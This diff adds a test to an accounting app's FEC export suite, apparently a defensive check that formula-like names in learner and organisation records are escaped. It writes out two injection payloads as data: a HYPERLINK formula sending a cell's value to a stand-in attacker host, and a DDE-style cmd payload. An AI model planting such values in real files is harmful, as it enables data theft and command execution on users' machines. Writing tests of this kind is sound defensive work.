@@ -207,4 +207,24 @@ describe('FEC export', () => {
       t.clock.advance(-2 * 366 * 86_400);
     }
   });
+
+  test('issue 36 S6: a learner named =HYPERLINK(…) and an organisation named +SUM(…) land defused in CompAuxLib; the file stays valid', async () => {
+    const orleans = t.ids.centre.agencies.orleans;
+    const [learner] = await learnersOf(t, orleans, 1);
+    const tva = await tvasOf(t, orleans);
+    const organisation = await t.deps.db.selectFrom('organizations').select('id').where('structure_id', '=', t.ids.centre.structureId).orderBy('id').executeTakeFirstOrThrow();
+    await t.deps.db.updateTable('learners').set({ last_name: '=HYPERLINK("http://evil.test/?x="&A1;"Voir")', first_name: '' }).where('id', '=', learner!).execute();
+    await t.deps.db.updateTable('organizations').set({ name: '+SUM(1+1)*cmd|\' /C calc\'!A0' }).where('id', '=', organisation.id).execute();
+    const line = { label: 'Leçon', quantity: 1, unitPrice: 50, tva: tva['20'] };
+    for (const party of [{ learner }, { learner, organization: `/api/organizations/${organisation.id}` }]) {
+      const draft = await gerant.post<InvoiceDetails>('/accounting/invoices', { agency: orleans, ...party, lines: [line] });
+      assert.equal(draft.status, 201, JSON.stringify(draft.body));
+      assert.equal((await gerant.post(`/accounting/invoices/${draft.body.id}/validate`)).status, 200);
+    }
+    const rows = await fec(gerant, Number(parisDate(t.deps.now()).slice(0, 4)));
+    const labels = new Set(rows.map((r) => r.CompAuxLib));
+    assert.ok(labels.has(`'=HYPERLINK("http://evil.test/?x="&A1;"Voir")`), [...labels].join(' / '));
+    assert.ok(labels.has(`'+SUM(1+1)*cmd ' /C calc'!A0`), [...labels].join(' / '));
+    assert.ok(rows.every((r) => !/^[=+\-@]/.test(r.CompAuxLib) && !/^[=+@]/.test(r.EcritureLib)), 'no text cell starts a formula');
+  });
 });
